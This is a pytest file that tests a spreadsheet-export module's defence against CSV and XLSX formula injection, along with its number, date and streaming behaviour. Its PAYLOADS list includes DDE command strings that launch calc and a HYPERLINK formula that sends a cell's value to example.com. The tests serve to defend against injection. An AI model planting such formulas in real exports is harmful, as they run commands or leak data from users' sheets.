"""Cells: none can run as a formula, CSV and XLSX say the same, and nothing waits for the last row."""

import csv
import io
import unicodedata
from datetime import UTC, date, datetime
from decimal import Decimal
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.sheets import DAY, FLAG, MOMENT, NUMBER, TEXT, Kind, as_csv, as_xlsx

AMOUNT = Kind("NGN", lambda value: value, shown_as="0.00")
PAYLOADS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "   =1+1",
    " \t\r\n @SUM(1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b+1+1",
    "\u2028-1+1",
    "\x00=1+1",
    "\x0b\x0c=1+1",
    "\x1f-1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\tjust a tab",
    "\rjust a line",
]


def read_csv(pieces):
    return list(csv.reader(io.StringIO(b"".join(pieces).decode(), newline="")))


def read_xlsx(pieces):
    return list(load_workbook(io.BytesIO(b"".join(pieces))).active.iter_rows())


def is_live(cell):
    """Would a spreadsheet run it? Told without the rule under test."""
    seen = cell.lstrip("".join(each for each in cell if unicodedata.category(each)[0] in "ZC" or each == "\ufffd"))
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_runs_as_a_formula(payload):
    assert is_live(payload)
    row = [TEXT.cell(payload)]
    _, (cell,) = read_csv(as_csv(["a"], [[row]]))
    assert cell.startswith("'")
    assert not is_live(cell)
    _, (found,) = read_xlsx(as_xlsx("Sheet", ["a"], [TEXT], [[row]]))
    assert found.data_type != "f"
    assert found.value == cell


@pytest.mark.parametrize("cell", ["=1+1", "+1", "@x"])
def test_even_without_the_apostrophe_a_sheet_takes_text_for_text(cell):
    """The second line of defence; the first is what the test before this is about."""
    content = b"".join(as_xlsx("Sheet", ["a"], [TEXT], [[[cell]]]))
    sheet = ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b't="inlineStr"' in sheet


@pytest.mark.parametrize(
    "value",
    ["", "Ada Obi", "Adébáyọ̀", "a=b", "1-2", "'=1", '"=1"', "x;=1", "12 Allen Avenue, Ikeja", "₦5", "two\nlines"],
)
def test_harmless_text_goes_out_as_it_is(value):
    assert TEXT.cell(value) == value


@given(st.lists(st.text(), min_size=3, max_size=3))
def test_csv_and_xlsx_say_the_same_of_any_text(values):
    row = [TEXT.cell(value) for value in values]
    assert not any(map(is_live, row))
    _, from_csv = read_csv(as_csv("abc", [[row]]))
    _, from_xlsx = read_xlsx(as_xlsx("Sheet", "abc", [TEXT] * 3, [[row]]))
    assert from_csv == [cell.value or "" for cell in from_xlsx]


def test_numbers_stay_numbers_below_zero_too():
    row = [AMOUNT.cell(Decimal("-1234567.80")), NUMBER.cell(-3), None]
    assert read_csv(as_csv("abc", [[row]]))[1] == ["-1234567.80", "-3", ""]
    amount, count, nothing = read_xlsx(as_xlsx("Sheet", "abc", [AMOUNT, NUMBER, NUMBER], [[row]]))[1]
    assert (amount.value, amount.data_type, amount.number_format) == (-1234567.8, "n", "0.00")
    assert (count.value, count.data_type) == (-3, "n")
    assert nothing.value is None


def test_times_are_lagos_with_the_offset_and_days_are_days():
    assert MOMENT.cell(datetime(2026, 11, 20, 23, 30, 5, 999, tzinfo=UTC)) == "2026-11-21T00:30:05+01:00"
    assert DAY.cell(date(2026, 11, 21)) == "2026-11-21"
    assert (FLAG.cell(True), FLAG.cell(False)) == ("yes", "no")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_pieces_come_before_the_rows_are_read(kind):
    asked = []

    def batches():
        for number in range(50):
            asked.append(number)
            yield [[number, "x"] for _ in range(1000)]

    header, kinds = ["a", "b"], [NUMBER, TEXT]
    pieces = as_csv(header, batches()) if kind == "csv" else as_xlsx("Sheet", header, kinds, batches())
    assert next(pieces)
    assert asked == []
    next(pieces)
    assert asked == [0]
    list(pieces)
    assert len(asked) == 50


@pytest.mark.parametrize("rows", [0, 1, 5000])
def test_a_sheet_opens_with_its_header_whatever_the_number_of_rows(rows):
    found = read_xlsx(
        as_xlsx("A title of more than thirty-one characters", ["id"], [NUMBER], [[[n] for n in range(rows)]])
    )
    assert found[0][0].value == "id"
    assert found[0][0].font.bold
    assert [row[0].value for row in found[1:]] == list(range(rows))
